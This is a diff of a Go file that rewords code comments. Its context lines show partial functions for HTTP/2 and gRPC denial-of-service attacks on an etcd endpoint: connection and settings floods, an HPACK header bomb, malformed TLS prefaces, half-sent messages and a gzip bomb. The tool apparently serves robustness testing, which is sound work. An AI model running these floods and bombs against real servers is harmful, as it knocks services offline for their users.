@@ -19,9 +19,9 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// What is done with HTTP/2 frames and half requests, which no honest client sends.
+// Attacks with HTTP/2 frames and partial requests, which no honest client sends.
 
-// open connects to the client port, by TLS if it speaks that.
+// open connects to the client port, with TLS if the port uses it.
 func (t *target) open(ctx context.Context) (net.Conn, error) {
 	d := net.Dialer{Timeout: 5 * time.Second}
 	conn, err := d.DialContext(ctx, "tcp", t.Client)
@@ -43,8 +43,8 @@ func (t *target) open(ctx context.Context) (net.Conn, error) {
 	return secured, secured.SetDeadline(time.Time{})
 }
 
-// framer opens an HTTP/2 connection and sends the preface. What the server sends is read and
-// thrown away if reading is true. The connection ends with ctx.
+// framer opens an HTTP/2 connection and sends the preface. If reading is true, what the server
+// sends is read and discarded. The connection ends with ctx.
 func (t *target) framer(ctx context.Context, reading bool) (*http2.Framer, io.Closer, error) {
 	conn, err := t.open(ctx)
 	if err != nil {
@@ -62,7 +62,7 @@ func (t *target) framer(ctx context.Context, reading bool) (*http2.Framer, io.Cl
 	return f, conn, f.WriteSettings()
 }
 
-// flood has some connections, each of which repeats step until it fails, and is made anew then.
+// flood opens some connections, each of which repeats step until it fails and is then replaced.
 func flood(ctx context.Context, t *target, c *counter, conns int, reading bool, step func(f *http2.Framer, n uint32) error) error {
 	c.swarm(ctx, conns, func(ctx context.Context, _ int) error {
 		f, conn, err := t.framer(ctx, reading)
@@ -127,7 +127,7 @@ func settingsFlood(ctx context.Context, t *target, c *counter) error {
 	})
 }
 
-// headerBomb names one long header again and again by its place in the table of the compression.
+// headerBomb refers to one long header again and again by its index in the compression table.
 func headerBomb(ctx context.Context, t *target, c *counter) error {
 	var b bytes.Buffer
 	b.Write(request())
@@ -138,7 +138,7 @@ func headerBomb(ctx context.Context, t *target, c *counter) error {
 	block := b.Bytes()
 	return flood(ctx, t, c, 8, true, func(f *http2.Framer, n uint32) error {
 		if n > 0 {
-			// The table of the first block holds for the others of its connection: one is enough.
+			// The table of the first block applies to the others of its connection: one is enough.
 			return errors.New("once")
 		}
 		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true, EndStream: true})
@@ -176,7 +176,7 @@ func tlsPrefaces(ctx context.Context, t *target, c *counter) error {
 	return nil
 }
 
-// post sends a request of gRPC with a body of our making, by a client that keeps HTTP/2's rules.
+// post sends a gRPC request with a body of our own, by a client that obeys HTTP/2's rules.
 func post(ctx context.Context, client *http.Client, t *target, body io.Reader, header ...string) error {
 	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+t.Client+"/etcdserverpb.KV/Put", body)
 	if err != nil {
@@ -218,7 +218,7 @@ func halfMessages(ctx context.Context, t *target, c *counter) error {
 	return nil
 }
 
-// letters is a text without an end.
+// letters is an endless text.
 type letters struct{}
 
 func (letters) Read(p []byte) (int, error) {
@@ -240,7 +240,7 @@ func gzipBomb(ctx context.Context, t *target, c *counter) error {
 	if err := w.Close(); err != nil {
 		return err
 	}
-	// Texts that were compressed one by one can be joined.
+	// Texts that were compressed one by one can be concatenated.
 	packed := bytes.Repeat(b.Bytes(), t.sized(20, 5))
 	message := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(len(packed))), packed...)
 	client := plainHTTP2()
